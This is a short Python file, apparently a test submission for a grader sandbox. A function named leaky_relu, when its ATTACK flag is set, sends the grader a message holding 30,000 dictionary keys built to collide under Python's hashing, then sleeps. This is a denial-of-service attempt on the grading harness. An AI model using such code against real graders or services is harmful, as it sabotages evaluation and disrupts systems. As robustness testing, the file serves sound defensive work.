# ruff: noqa
"""Sends a dictionary whose keys all have the same hash."""

import os
import time
from grader.sandbox.protocol import wire
from grader.sandbox.protocol.messages import answer_message
from grader.sandbox.protocol.observation import Observation

import numpy as np

ATTACK = True


def message(number, value, **more):
    return {**answer_message(Observation(), value, []), "id": number, **more}


def attack(x):
    keys = [[i * (2**61 - 1), 0] for i in range(30_000)]
    frame = wire.pack(message(2, {"dict": keys}))
    view = memoryview(frame)
    while view:
        view = view[os.write(4, view) :]
    time.sleep(30)


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
